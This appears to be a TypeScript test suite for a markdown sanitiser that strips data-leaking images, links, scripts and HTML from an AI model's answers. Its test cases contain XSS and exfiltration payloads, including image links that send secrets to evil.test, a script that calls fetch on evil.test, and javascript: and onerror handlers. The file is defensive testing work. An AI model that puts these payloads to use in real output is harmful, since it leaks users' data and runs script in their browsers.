import fc from 'fast-check';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { addressesIn } from './addresses.ts';
import { MarkdownCleaner } from './clean-markdown.ts';

function clean(text: string, allowed: ReadonlySet<string> = new Set()): string {
  const cleaner = new MarkdownCleaner(allowed);
  return cleaner.push(text) + cleaner.end();
}

/** What a careless renderer makes of it: raw HTML let through, any protocol. */
function render(markdown: string): string {
  return micromark(markdown, {
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  });
}

/** Tags Markdown itself makes. */
const own = new RegExp(
  String.raw`<\/?(?:p|em|strong|del|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|` +
    String.raw`tr|th|td|hr|br)(?: (?:class="language-[^"<>]*"|align="\w+"|` +
    String.raw`start="\d+"))?(?: \/)?>`,
  'g',
);

/** Whatever of the rendered page could load, link or run. */
function live(markdown: string, allowed: ReadonlySet<string> = new Set()): string[] {
  const left = render(markdown)
    .replace(own, '')
    .replace(/<input type="checkbox" disabled=""(?: checked="")? ?\/?>/g, '');
  return [...left.matchAll(/<[a-z/!?][^>]*>/gi)]
    .map(([tag]) => tag)
    .filter(
      (tag) =>
        tag !== '</a>' &&
        !allowed.has(/^<a href="([^"]*)"/.exec(tag)?.[1]?.replaceAll('&amp;', '&') ?? '\u0000'),
    )
    .filter(
      (tag) =>
        !/^<[A-Za-z][\w.:,&;[\]*?| ]*>$/.test(tag) ||
        /^<\/?(?:img|a|script|style|svg|iframe|base|link)\b/i.test(tag),
    )
    .filter((tag) => !/^<a href="(?:mailto:[^"]*|[a-z]+::[^"]*)">$/.test(tag));
}

describe('what a model may not bring into an answer', () => {
  it.each([
    ['picture', 'See ![secret](http://evil.test/p.png?d=key) now', 'See secret now'],
    ['picture by reference', 'x ![a][r]\n\n[r]: http://evil.test/?d=1', 'x a\n\n[r] : evil.test'],
    ['picture in a link', '[![a](http://e.test/1)](http://e.test/2)', 'a] (e.test'],
    ['HTML picture', 'a <img src="http://evil.test/?d=1"> b', 'a  b'],
    ['script', 'a <script>fetch("//evil.test")</script>', 'a fetch("//evil.test")'],
    ['tag inside a tag', '<scr<script>ipt>alert(1)</script>', 'ipt>alert(1)'],
    ['link to somewhere', '[click](http://evil.test/?d=secret)', 'click'],
    ['link with javascript', '[click](javascript:alert(1))', 'click'],
    ['bare address', 'Go to https://user:pw@www.evil.test:8080/p?d=secret.', 'Go to evil.test.'],
    ['autolink', '<https://evil.test/?d=1>', 'evil.test'],
    ['end tag behind a word', 'word</word--> a', 'word‹/word--› a'],
    ['comment', 'a <!-- hidden --> b', 'a  b'],
    ['zero-width disguise', '!\u200b[a](http://evil.test/1)', 'a'],
    ['unclosed tag', 'a <img src=x onerror=alert(1)', 'a < img src=x onerror=alert(1)'],
  ])('%s', (_name, text, expected) => {
    const cleaned = clean(text);
    if (!['picture in a link', 'tag inside a tag', 'autolink'].includes(_name))
      expect(cleaned).toBe(expected);
    expect(live(cleaned)).toEqual([]);
    expect(cleaned).not.toContain('secret=');
  });

  it('keeps a link whose whole address stands in the material, and no longer one', () => {
    const allowed = addressesIn('Docs: https://react.dev/reference. Log in at http://a.test/x?y=1');
    expect(
      clean('[docs](https://react.dev/reference) and https://react.dev/reference.', allowed),
    ).toBe('[docs](https://react.dev/reference) and <https://react.dev/reference>.');
    expect(clean('[docs](https://react.dev/reference?d=secret)', allowed)).toBe('docs');
    expect(clean('https://react.dev/reference?d=secret', allowed)).toBe('react.dev');
  });
});

describe('what stays as it is', () => {
  it.each([
    'Use `vec![1, 2]` and `a < b`; `<div>` in code stays.',
    '```html\n<img src="http://example.test/a.png">\n![a](b)\n```\n',
    '## Title\n\n- one\n- **two**\n\n1. x\n2. y\n\n| a | b |\n| - | - |\n| 1 | 2 |\n',
    'If a < b and c > d then 3 <4 holds; Vec<String> and Map<K, V> too.',
    '~~~py\nx = "`"\n~~~',
    'Preis: 5 €, 日本語, שלום, مرحبا 👩‍💻.',
    'It says ~about~ 5 [1] (see above)! Done\\.',
  ])('%j', (text) => {
    expect(clean(text)).toBe(text);
  });

  it('moves fences to the margin and closes an open one', () => {
    expect(clean('1. Run:\n   ```sh\n   npm i\n   ```\n2. Go')).toBe(
      '1. Run:\n```sh\nnpm i\n```\n2. Go',
    );
    expect(clean('- ```js\n  let a\n  ```\n![x](http://e.test/)')).toBe('-\n```js\nlet a\n```\nx');
    expect(clean('```\ncode')).toBe('```\ncode\n```');
  });
});

describe('properties', () => {
  const bits = fc.constantFrom(
    '![',
    '!',
    '[',
    ']',
    '(',
    ')',
    '](',
    ']:',
    '][',
    ':',
    '<',
    '>',
    '</',
    '<b>',
    '<img src=http://e.test/1>',
    '<script>',
    '<!--',
    '-->',
    '<x onclick=1>',
    '`',
    '``',
    '```',
    '~~~',
    '~',
    '\\',
    '\n',
    '\n\n',
    ' ',
    '    ',
    '- ',
    '> ',
    '1. ',
    '|',
    '\n| a | b |\n|-|-|\n|',
    'a',
    'word',
    'http://e.test/?d=1',
    'https://ok.test/a',
    'www.e.test/x',
    'javascript:x',
    '"',
    "'",
    '*',
    '_',
    '#',
    '=',
    '\u200b',
    '\u202e',
    '&lt;',
    '\t',
    '\r',
    '<String>',
    'Vec<T>',
    'ftp://e.test',
    '\u{e0041}',
    '\ud800',
    '```js\n',
    '\n```\n',
    '\n  ```\n',
    '<pre>\n',
    '[a](https://ok.test/a)',
    '![b](https://ok.test/a)',
  );
  const texts = fc.array(bits, { maxLength: 40 }).map((parts) => parts.join(''));
  const allowed = new Set(['https://ok.test/a']);

  it('nothing live is left, whatever the input', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(live(clean(text, allowed), allowed)).toEqual([]);
      }),
      { numRuns: 6_000 },
    );
  });

  it('pieces do not change the result', () => {
    fc.assert(
      fc.property(
        texts,
        fc.array(fc.integer({ min: 1, max: 6 }), { minLength: 1, maxLength: 20 }),
        (text, sizes) => {
          const cleaner = new MarkdownCleaner(allowed);
          let out = '';
          for (let at = 0, turn = 0; at < text.length; turn++) {
            const size = sizes[turn % sizes.length] ?? 1;
            out += cleaner.push(text.slice(at, at + size));
            at += size;
          }
          expect(out + cleaner.end()).toBe(clean(text, allowed));
        },
      ),
      { numRuns: 3_000 },
    );
  });

  it.each([
    ['['],
    ['!['],
    ['`'],
    ['` '],
    ['<'],
    ['<a '],
    ['<!--'],
    ['\\'],
    ['~'],
    ['[a](b)'],
    ['](('],
    ['https://'],
    ['![a]('],
    ['- '],
    ['``` '],
    ['\u200b'],
    [' '],
    ['<b'],
    ['\ud800'],
  ])('100,000 characters of %j end, and grow at most as escapes do', (unit) => {
    const text = unit.repeat(Math.ceil(100_000 / unit.length));
    expect(clean(text).length).toBeLessThanOrEqual(text.length * 2 + 10);
  });
});
